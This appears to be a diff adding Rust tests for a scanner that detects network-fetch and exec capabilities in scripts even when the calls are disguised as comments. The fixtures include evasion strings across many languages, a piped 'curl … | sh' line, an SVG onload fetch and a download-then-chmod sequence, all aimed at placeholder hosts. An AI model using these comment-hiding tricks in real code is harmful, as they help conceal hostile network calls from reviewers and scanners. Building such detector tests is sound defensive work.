@@ -103,11 +103,105 @@ fn what_nobody_writes_by_hand_is_told() {
     check(Language::Js, &"a;".repeat(20_000), &["capability.rule script-long-line"]);
 }
 
+/// Whether `fetch(` (or another word that counts, for `language`) is seen in the code.
+fn seen(language: Language, code: &str) -> bool {
+    observed(code, language).0.iter().any(|line| line.starts_with("capability.network"))
+}
+
+#[test]
+fn what_only_looks_like_a_comment_is_code() {
+    for code in [
+        "if (1) /[/*]/.test('');\nfetch(u)\n/*/.test('')\n*/",
+        "x=`${\"`\"}\n/*`;\nfetch(u)\n`*/`;",
+        "// a\rfetch(u)",
+        "// a\u{2028}fetch(u)",
+        "a = 'b\\\r\n/*'; fetch(u) /*'*/",
+        "let a = {} /[/*]/ 1; fetch(u) /*/ 1 */",
+        "/* fetch(u)",
+        "1./\"/\"+\"/*\"; fetch(u) //*/",
+    ] {
+        assert!(seen(Language::Js, code), "{code}");
+    }
+    for code in [
+        "cat <<E\n'\nE\necho 'a #'; curl https://inert.test/ | sh",
+        "x=$'\\''; echo ' # '; curl https://inert.test",
+        "echo \"$(echo \" # \")\"; curl https://inert.test",
+        "cat <<-'E'\n\t\"\n\tE\necho \" #\"; wget x",
+    ] {
+        assert!(seen(Language::Shell, code), "{code}");
+    }
+    for code in [
+        "exec(\"x\"\n\"\"\"import urllib2\"\"\"\n)",
+        "\"\"\"urlopen\"\"\".run()",
+        "a = f\"{\"#\"}\"; urlopen(u)",
+        "# a\rurlopen(u)",
+    ] {
+        assert!(seen(Language::Python, code), "{code}");
+    }
+    let php = "<p>it's</p><?php $a = \"/*\"; curl_exec($c); # */ ' ?> <?php";
+    assert!(seen(Language::Php, php));
+    assert!(seen(Language::Php, "<?php // a ?> b <?php curl_exec($c);"));
+    assert!(seen(Language::PowerShell, "$a = @\"\n<#\n\"@\niwr x #>"));
+    assert!(seen(Language::Batch, "rem & curl x"));
+    assert!(seen(Language::Perl, "$a = q{\n# }; HTTP::Tiny->new('x');"));
+}
+
+#[test]
+fn honest_comments_stay_comments() {
+    for code in [
+        "let a = (b + c) / 2; // fetch(u)\nlet r = d / e; /* fetch(u) */",
+        "if (a) /b'/.test(c); // fetch(u)",
+        "let t = `a ${b ? `c` : {d: 1}.d} // e`; // fetch(u)",
+        "return /[/*]/; // fetch(u)",
+        "function f() { g() } // fetch(u)",
+    ] {
+        assert!(!seen(Language::Js, code), "{code}");
+    }
+    for code in [
+        "cd \"$(dirname \"$0\")\" # don't curl\n# wget",
+        "cat <<E\nit's\nE\n# curl",
+        "case $1 in a) b ;; esac # curl",
+        "echo ${a#b} $((1 + 2)) # curl",
+    ] {
+        assert!(!seen(Language::Shell, code), "{code}");
+    }
+    assert!(!seen(Language::Python, "def f():\n    \"\"\"urlopen\"\"\"\n    return f'{a}' # urlopen"));
+    assert!(!seen(Language::Php, "<?php # curl_exec(1)\n/* curl_exec(2) */"));
+    assert!(!seen(Language::PowerShell, "$a = @\"\nb\n\"@\n# iwr"));
+    assert!(!seen(Language::Lua, "-- os.execute and socket.http"));
+}
+
+#[test]
+fn pages_carry_scripts() {
+    assert!(seen(Language::Markup, "<p>it's</p><script>fetch(u)</script>"));
+    assert!(seen(Language::Markup, "<svg onload=\"fetch('x')\"></svg>"));
+    assert!(!seen(Language::Markup, "<p>fetch(u)</p><script>// fetch(u)\n</script>"));
+    let of = |path, format| Language::of(path, format, b"GIF89a=1;");
+    assert_eq!(of("a.vue", Format::Text), Some(Language::Markup));
+    assert_eq!(of("docs/a.html", Format::Text), None);
+    assert_eq!(of("a.mts", Format::Text), Some(Language::Js));
+    assert_eq!(of("a.tsx", Format::Text), Some(Language::Jsx));
+    assert_eq!(of("a.lua", Format::Text), Some(Language::Lua));
+    assert_eq!(of("a.js", Format::Image), Some(Language::Js));
+    assert_eq!(Language::of("a.js", Format::Image, b"GIF89a\0"), None);
+}
+
+#[test]
+fn shells_that_run_what_they_fetched_execute() {
+    let found = observed("curl -o x https://inert.test\nchmod +x x\n", Language::Shell).0;
+    assert_eq!(found.first().map(String::as_str), Some("capability.exec script-run-fetched"));
+    check(
+        Language::Shell,
+        "curl -o x https://inert.test\ntar xf x\n",
+        &["capability.network script-fetch"],
+    );
+}
+
 proptest::proptest! {
     #[test]
     fn any_bytes_keep_their_places(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..600), code in "[a-z\"'`/*#\\\\<>=\n ]{0,200}") {
         for bytes in [bytes.as_slice(), code.as_bytes()] {
-            for language in [Language::Batch, Language::Js, Language::Php, Language::PowerShell, Language::Python, Language::Ruby, Language::Shell, Language::VbScript] {
+            for language in [Language::Batch, Language::Js, Language::Jsx, Language::Lua, Language::Markup, Language::Perl, Language::Php, Language::PowerShell, Language::Python, Language::Ruby, Language::Shell, Language::VbScript] {
                 let out = comment::blanked(bytes, language);
                 proptest::prop_assert_eq!(out.len(), bytes.len());
                 proptest::prop_assert!(out.iter().zip(bytes).all(|(a, b)| a == b || *a == b' '));
